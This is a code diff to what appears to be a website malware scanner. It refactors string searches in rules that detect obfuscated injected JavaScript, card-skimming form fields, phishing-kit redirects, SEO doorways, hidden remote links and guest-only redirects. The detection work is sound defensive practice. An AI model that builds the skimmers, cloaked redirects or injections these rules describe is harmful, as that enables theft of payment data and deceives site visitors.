@@ -3837,7 +3839,7 @@ def _wp_hook_inject(ctx: Ctx, rule: Rule) -> Hit | None:
             obfuscated = _obfuscated_script(string_text(ctx))
         if obfuscated:  # machine-obfuscated JavaScript printed on every page
             return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
-        body = _hook_body(ctx, args, ctx.code.find(b"(", start) + 1)
+        body = _hook_body(ctx, args, find(ctx.code, b"(", start) + 1)
         if body is None:
             continue
         for out in itertools.islice(_OUTPUT.finditer(body), 20):
@@ -3854,7 +3856,7 @@ _JS_PACKER = tight(rb"eval\s*\(\s*function\s*\(\s*p\s*,\s*a\s*,\s*c\s*,\s*k\s*,\
 def _obfuscated_script(text: bytes) -> bool:
     """The literals or inline HTML hold machine-obfuscated JavaScript: a <script> with
     dozens of javascript-obfuscator names (_0x3629) or Dean Edwards' packer."""
-    if text.find(b"<script") < 0:
+    if find(text, b"<script") < 0:
         return False
     if _JS_PACKER.search(text) is not None:
         return True
@@ -4086,7 +4088,7 @@ def card_fields_named(text: bytes) -> bool:
     """Whether ``text`` names a card's number field and its security code field (both
     :data:`_CARD_NUMBER_FIELD` and :data:`_CARD_CODE_FIELD` match), the literal words each
     match holds looked for first."""
-    if not any(text.find(w) >= 0 for w in _CARD_NUMBER_WORDS):
+    if not any(find(text, w) >= 0 for w in _CARD_NUMBER_WORDS):
         return False
     if _CARD_NUMBER_FIELD.search(text) is None:
         return False
@@ -4270,7 +4272,7 @@ def _path_tail(ctx: Ctx, expr: bytes, depth: int = 3) -> bytes | None:
         return None
     if m.group(1) is not None:
         lit = ctx.lx.value(int(m.group(1))).lower()
-        if lit.find(b"/") >= 0:
+        if find(lit, b"/") >= 0:
             return lit
         # no "/" in it: the whole last part of the path only when nothing comes before it
         # or a literal ending with "/" does ($dir . '/' . '.log'); else an extension
@@ -4553,7 +4555,7 @@ def _kit_step_relayed(ctx: Ctx, rule: Rule) -> Hit | None:
     (a lead, a contact, a newsletter) thanks its visitor; a sign-in of its own checks the
     password (:func:`_auth_used`)."""
     text = string_text(ctx)
-    if (text.find(b"location") < 0 and text.find(b"url=") < 0) or _auth_used(ctx):
+    if (find(text, b"location") < 0 and find(text, b"url=") < 0) or _auth_used(ctx):
         return None
     if not _visitor_named(text) and _VICTIM_LABELS.search(text) is None:
         return None
@@ -4625,7 +4627,7 @@ def file_lists(code: bytes, most: int = 30) -> list[re.Match[bytes]]:
         if w.start() < end:
             continue  # in the statement searched last
         start = code.rfind(b";", 0, w.start()) + 1
-        end = code.find(b";", w.end())
+        end = find(code, b";", w.end())
         if end < 0:
             end = len(code)
         for m in _LIST_SET.finditer(code, start, end):
@@ -4678,7 +4680,7 @@ def _crawler_keyword_doorway(ctx: Ctx, rule: Rule) -> Hit | None:
     site's own pages in order (a random number in it for a cache-busting query picks no
     item); a banner rotator shown to everyone but crawlers is no doorway."""
     text = string_text(ctx)
-    if text.find(b"<a ") < 0 or text.find(b"href") < 0:
+    if find(text, b"<a ") < 0 or find(text, b"href") < 0:
         return None
     code = ctx.code
     # the variables set to a list read from a file, where each is set
@@ -4692,7 +4694,7 @@ def _crawler_keyword_doorway(ctx: Ctx, rule: Rule) -> Hit | None:
         open_at = m.end()  # just after "if ("
         end = open_at + close_paren(code[open_at : open_at + 400])
         cond = code[open_at - 1 : end + 1]
-        brace = code.find(b"{", end, end + 4)
+        brace = find(code, b"{", end, end + 4)
         if brace < 0:
             continue
         block = _crawler_only_part(code, cond, brace, braced(code, brace, 6000))
@@ -4735,7 +4737,7 @@ _HIDDEN_ATTR = tight(
 def _hides(lit: bytes) -> bool:
     """``lit`` (lower case) hides an element by its style or its hidden attribute."""
     return _HIDDEN_STYLE.search(lit) is not None or (
-        lit.find(b" hidden") >= 0 and _HIDDEN_ATTR.search(lit) is not None
+        find(lit, b" hidden") >= 0 and _HIDDEN_ATTR.search(lit) is not None
     )
 _PRINTS = tight(rb"(?<![\w$>:])(?:echo|print)\b([^;]{1,600});")
 _FETCH_INTO_VAR = tight(
@@ -4760,9 +4762,9 @@ def _hidden_remote_links(ctx: Ctx, rule: Rule) -> Hit | None:
     site's own hidden block (a modal, a honeypot field) holds its own content, and a widget
     fetched from a web address is shown."""
     text = string_text(ctx)
-    if (prefiltered_search(_HIDDEN_STYLE, text) is None and text.find(b" hidden") < 0) or text.find(
-        b"http"
-    ) < 0:
+    if (
+        prefiltered_search(_HIDDEN_STYLE, text) is None and find(text, b" hidden") < 0
+    ) or find(text, b"http") < 0:
         return None
     code = ctx.code
     value = ctx.lx.value
@@ -4780,13 +4782,13 @@ def _hidden_remote_links(ctx: Ctx, rule: Rule) -> Hit | None:
     fetchers = [
         name
         for name, body in itertools.islice(function_bodies(ctx).items(), 100)
-        if body.find(b"return") >= 0
-        and (body.find(b"curl_exec") >= 0 or _web_fetch(ctx, body))
+        if find(body, b"return") >= 0
+        and (find(body, b"curl_exec") >= 0 or _web_fetch(ctx, body))
     ]
     for name in fetchers[:10]:
         call = re.compile(rb"\$(" + NAME_P + rb")\s*=\s*@?\s*" + re.escape(name) + rb"\s*\(")
         fetched.update(m.group(1) for m in itertools.islice(call.finditer(code), 20))
-    if not fetched and code.find(b"file_get_contents") < 0:
+    if not fetched and find(code, b"file_get_contents") < 0:
         return None
     # classes a style sheet of the page hides (<style>.x9{display:none}</style>)
     hidden_classes = _hidden_classes(text)
@@ -4904,11 +4906,11 @@ def _guest_only_redirect(ctx: Ctx, rule: Rule) -> Hit | None:
     a members-only page sends guests to its own sign-in page, an offer opens the site's own
     page."""
     code = ctx.code
-    if code.find(b"$_cookie") < 0:
+    if find(code, b"$_cookie") < 0:
         return None
     value = ctx.lx.value
     gates = [
-        code.find(b"\x01%d\x01" % i)
+        find(code, b"\x01%d\x01" % i)
         for i in literals_holding(ctx, (_WP_LOGIN_COOKIE,), 5000)[:20]
         if value(i).lower().find(_WP_LOGIN_COOKIE) >= 0
     ]
@@ -4917,11 +4919,11 @@ def _guest_only_redirect(ctx: Ctx, rule: Rule) -> Hit | None:
         return None
     for idx in literals_holding(ctx, (b"<script",), 5000)[:50]:
         lit = value(idx).lower()
-        if lit.find(b"<script") < 0 or _JS_NAVIGATES.search(lit) is None:
+        if find(lit, b"<script") < 0 or _JS_NAVIGATES.search(lit) is None:
             continue
         if _JS_STRING_URL.search(lit) is None:
             continue
-        at = code.find(b"\x01%d\x01" % idx)
+        at = find(code, b"\x01%d\x01" % idx)
         if at >= 0 and any(abs(at - g) < 1500 for g in gates):
             return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 120))
     return None
